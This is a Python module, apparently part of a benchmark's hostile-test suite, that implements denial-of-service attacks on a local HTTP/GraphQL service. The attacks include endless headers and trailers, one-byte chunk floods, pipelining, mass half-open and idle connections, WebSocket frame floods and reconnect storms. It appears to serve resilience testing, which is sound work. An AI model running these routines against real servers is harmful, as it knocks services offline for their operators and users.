"""Attacks by connecting: requests that never end, connections that ask for nothing, and floods of small parts."""

from __future__ import annotations

import asyncio
from asyncio import StreamReader, StreamWriter
from collections.abc import Awaitable, Callable
from contextlib import suppress

from bench.hostile.target import Target

HOST = b"host: 127.0.0.1\r\n"
PART = 1 << 16
"""The bytes that are sent at once."""
MANY = 256
MOST = 20_000

_CHUNKED = (
    b"POST /graphql HTTP/1.1\r\n" + HOST + b"content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
)
_UPGRADE = (
    b"GET /graphql HTTP/1.1\r\n" + HOST + b"connection: upgrade\r\nupgrade: websocket\r\n"
    b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)
_MASK = bytes(4)


async def endless_head(target: Target) -> None:
    """Send a header that never ends, over one connection."""
    await _pour(target, b"GET /healthz HTTP/1.1\r\n" + HOST + b"x: ", b"x" * PART)


async def endless_heads(target: Target) -> None:
    """Send headers that never end over many connections: one header, many headers, and of a WebSocket."""
    many = b"x: y\r\n" * (PART // 6)
    heads = ((b"GET /healthz HTTP/1.1\r\nx: ", b"x" * PART), (b"GET / HTTP/1.1\r\n", many), (_UPGRADE, many))
    await _all(MANY, lambda number: _pour(target, *heads[number % len(heads)]))


async def endless_trailers(target: Target) -> None:
    """Send trailers and chunk extensions that never end."""
    tails = ((_CHUNKED + b"0\r\nx: ", b"x" * PART), (_CHUNKED + b"1;", b"x" * PART))
    await _all(MANY, lambda number: _pour(target, *tails[number % len(tails)]))


async def tiny_chunks(target: Target) -> None:
    """Send bodies in chunks of one byte, to paths that read them and to paths that do not."""
    unread = _CHUNKED.replace(b"/graphql", b"/healthz")
    await _all(MANY, lambda number: _pour(target, (_CHUNKED, unread)[number % 2], b"1\r\n \r\n" * (PART // 6)))


async def pipelining(target: Target) -> None:
    """Send requests without reading the answers to those before."""
    request = b"GET /nowhere HTTP/1.1\r\n" + HOST + b"\r\n"
    await _all(MANY, lambda _: _pour(target, b"", request * (PART // len(request))))


async def unpriced(target: Target) -> None:
    """Ask for what is not there as fast as possible, which costs no points."""

    async def client(_: int) -> None:
        reader, writer = await target.connect()
        while True:
            writer.write(b"GET /nowhere HTTP/1.1\r\n" + HOST + b"\r\n")
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(head.lower().partition(b"content-length:")[2].partition(b"\r\n")[0]))

    await _all(MANY, client)


async def tiny_frames(target: Target) -> None:
    """Send empty frames over WebSockets: pings, and parts of a message that never ends."""
    ping, part = b"\x89\x80" + _MASK, b"\x00\x80" + _MASK
    begun = _UPGRADE + b"sec-websocket-protocol: graphql-transport-ws\r\n\r\n"

    async def client(number: int) -> None:
        first, frame = (b"\x01\x80" + _MASK, part) if number % 2 else (b"", ping)
        await _pour(target, begun, frame * (PART // len(frame)), first)

    await _all(MANY, client)


async def half_open(target: Target) -> None:
    """Open as many connections as possible, and begin a request on each."""
    await _hold(target, b"GET /healthz HTTP/1.1\r\nx: ")


async def silent(target: Target) -> None:
    """Open as many connections as possible, and say nothing."""
    await _hold(target, b"")


async def slow_bodies(target: Target) -> None:
    """Open as many connections as possible, and begin a body on each."""
    await _hold(
        target, b"POST /graphql HTTP/1.1\r\n" + HOST + b"content-type: application/json\r\ncontent-length: 9\r\n\r\n"
    )


async def kept_alive(target: Target) -> None:
    """Open as many connections as possible, and leave each idle after one answer."""
    await _hold(target, b"GET /healthz HTTP/1.1\r\n" + HOST + b"\r\n")


async def reconnecting(target: Target) -> None:
    """Open and close connections as fast as possible."""

    async def client(_: int) -> None:
        while True:
            _reader, writer = await target.connect()
            writer.close()

    await _all(MANY, client)


async def _pour(target: Target, head: bytes, part: bytes, first: bytes = b"") -> None:
    """Send a head, and then the same part for ever; answers are read, so that none is held up."""
    reader, writer = await target.connect()
    reading = asyncio.create_task(_read(reader))
    try:
        writer.write(head)
        if first:
            await asyncio.sleep(0.1)  # the WebSocket must be open: bytes behind its head are dropped
            writer.write(first)
        while not reading.done():
            writer.write(part)
            await writer.drain()
            await asyncio.sleep(0)
    finally:
        reading.cancel()
        writer.close()


async def _read(reader: StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(PART):
            pass


async def _hold(target: Target, begun: bytes) -> None:
    """Keep as many connections open as the service and this machine allow, each with a request that was begun."""
    slots = asyncio.Semaphore(MOST)

    async def hold(reader: StreamReader, writer: StreamWriter) -> None:
        try:
            await _read(reader)
        finally:
            writer.close()
            slots.release()

    async with asyncio.TaskGroup() as held:
        while True:
            await slots.acquire()
            try:
                reader, writer = await target.connect()
            except OSError:
                slots.release()
                await asyncio.sleep(0.1)
                continue
            writer.write(begun)
            held.create_task(hold(reader, writer))


async def _all(count: int, client: Callable[[int], Awaitable[None]]) -> None:
    """Run so many clients, each again after it ended."""

    async def persist(number: int) -> None:
        while True:
            with suppress(OSError, EOFError):
                await client(number)
            await asyncio.sleep(0.01)

    async with asyncio.TaskGroup() as clients:
        for number in range(count):
            clients.create_task(persist(number))
